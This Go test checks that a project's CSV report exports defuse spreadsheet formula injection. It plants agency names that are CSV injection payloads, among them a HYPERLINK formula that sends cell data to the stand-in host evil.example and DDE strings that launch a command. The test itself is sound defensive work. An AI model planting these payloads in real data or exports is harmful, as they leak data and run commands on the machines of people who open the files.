package api_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/motcua/motcua"
	"github.com/motcua/motcua/sqlstore/sqltest"
)

// TestCSVExportsRunNoFormula names an agency like a spreadsheet formula
// and exports both public reports as CSV: no cell starts with a character
// that makes a spreadsheet evaluate it, while the name is still there.
func TestCSVExportsRunNoFormula(t *testing.T) {
	sqltest.Run(t, func(t *testing.T, eng sqltest.Engine) {
		e := newEnv(t, eng, vn(2025, 3, 10, 9, 0))
		ctx := context.Background()
		var admin *motcua.User
		if err := e.db.Read(ctx, func(tx motcua.Tx) (err error) { admin, err = tx.UserByUsername(ctx, "admin"); return err }); err != nil {
			t.Fatal(err)
		}
		as := motcua.NewContextWithUser(ctx, admin)
		evil := []string{`=HYPERLINK("http://evil.example/?x="&A1,"Xem")`, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"}
		for i, code := range []string{"H99.101", "H99.102", "H99.103", "000.00.12.H99"} {
			var a *motcua.Agency
			if err := e.db.Read(ctx, func(tx motcua.Tx) (err error) { a, err = tx.AgencyByCode(ctx, code); return err }); err != nil {
				t.Fatal(err)
			}
			a.Name = evil[i]
			if err := e.svc.UpdateAgency(as, a); err != nil {
				t.Fatal(err)
			}
		}
		const q = "?from=2025-01-01&to=2025-03-10&format=csv"
		for _, path := range []string{"/reports/06a" + q, "/reports/index766" + q} {
			r := e.call("GET", path, "", nil, nil)
			recs, err := csv.NewReader(bytes.NewReader(r.body)).ReadAll()
			if err != nil || r.status != 200 {
				t.Fatalf("%s: %d %v", path, r.status, err)
			}
			found := 0
			for _, rec := range recs {
				for _, cell := range rec {
					if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
						t.Errorf("%s: cell %q would run as a formula", path, cell)
					}
					if strings.HasPrefix(cell, "'") && strings.Contains(cell, "cmd|") || strings.Contains(cell, "HYPERLINK") {
						found++
					}
				}
			}
			if found == 0 {
				t.Errorf("%s: the agencies' names are missing:\n%s", path, r.body)
			}
		}
	})
}
